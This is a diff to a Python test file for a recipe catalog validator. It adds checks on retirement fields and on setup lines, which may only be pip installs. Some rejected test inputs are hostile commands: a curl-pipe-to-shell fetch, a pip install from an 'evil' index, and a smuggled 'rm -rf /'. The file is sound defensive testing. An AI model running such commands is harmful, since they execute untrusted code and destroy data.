@@ -17,6 +17,79 @@ from aim_catalog.recipes.files import load_recipes
 
 RULES = [
     # (id, text, line, col, field, message fragment)
+    ("unknown-status", HEAD + "status: old\n", 6, 1, "status", "must be one of current, retired, got 'old'"),
+    (
+        "retired-without-reason",
+        HEAD + "status: retired\n",
+        6,
+        1,
+        "status",
+        "a retired recipe needs retired_reason",
+    ),
+    (
+        "reason-on-a-current-recipe",
+        HEAD + "retired_reason: gone\n",
+        6,
+        1,
+        "retired_reason",
+        "only a retired recipe has retired_reason; this one's status is current",
+    ),
+    (
+        "retired-on-not-a-date",
+        HEAD + "status: retired\nretired_reason: gone\nretired_on: last summer\n",
+        8,
+        1,
+        "retired_on",
+        "must be a date (YYYY-MM-DD), got 'last summer'",
+    ),
+    (
+        "setup-not-pip",
+        serve("enabled: true\nsetup:\n  - curl -s https://x | sh\n"),
+        10,
+        9,
+        "vllm_serve.4_gpu.setup[0]",
+        "is not a pip install line; setup accepts only pip install",
+    ),
+    (
+        "setup-url",
+        serve("enabled: true\nsetup:\n  - pip install git+https://github.com/x/y\n"),
+        10,
+        9,
+        "vllm_serve.4_gpu.setup[0]",
+        "'git+https://github.com/x/y' is not a package name with an optional version pin",
+    ),
+    (
+        "setup-index-option",
+        serve("enabled: true\nsetup:\n  - pip install --index-url https://evil/ amd-quark\n"),
+        10,
+        9,
+        "vllm_serve.4_gpu.setup[0]",
+        "pip option '--index-url' is not allowed in setup",
+    ),
+    (
+        "setup-shell",
+        serve("enabled: true\nsetup:\n  - pip install amd-quark; rm -rf /\n"),
+        10,
+        9,
+        "vllm_serve.4_gpu.setup[0]",
+        "'amd-quark;' is not a package name",
+    ),
+    (
+        "setup-no-package",
+        serve("enabled: true\nsetup:\n  - pip install -U\n"),
+        10,
+        9,
+        "vllm_serve.4_gpu.setup[0]",
+        "names no package",
+    ),
+    (
+        "setup-not-a-list",
+        serve("enabled: true\nsetup: pip install amd-quark\n"),
+        9,
+        5,
+        "vllm_serve.4_gpu.setup",
+        "must be a list of at most 20 pip install lines",
+    ),
     ("unknown-top-level-key", HEAD + "owner: me\n", 6, 1, "owner", "unknown top-level key 'owner'"),
     (
         "unknown-backend",
@@ -704,3 +777,23 @@ def test_messages_quote_at_most_a_little_of_a_huge_value(write_recipe: Callable[
     path = write_recipe("h", text_=f"recipe_id: h\nprecision: {huge}\n")
     _, problems, _ = load_recipes([path])
     assert max(len(str(p)) for p in problems) < 500
+
+
+def test_status_and_setup_are_parsed() -> None:
+    """A retired recipe keeps why and when; setup lines keep their order, white space collapsed."""
+    recipe = parse_ok(
+        HEAD
+        + "status: retired\nretired_reason: 'InferenceX retired it (PR #2101)'\nretired_on: 2026-07-06\n"
+        + "vllm_serve:\n  4_gpu:\n    enabled: true\n    setup:\n"
+        + "      - pip  install amd-quark\n      - pip install -U transformers>=4.57,<5 torchao[dev]==0.1\n"
+    )
+    assert (recipe.status, recipe.retired_reason, str(recipe.retired_on)) == (
+        "retired",
+        "InferenceX retired it (PR #2101)",
+        "2026-07-06",
+    )
+    assert recipe.serve_configs[0].setup == (
+        "pip install amd-quark",
+        "pip install -U transformers>=4.57,<5 torchao[dev]==0.1",
+    )
+    assert parse_ok(HEAD).status == "current" and parse_ok(HEAD).retired_on is None
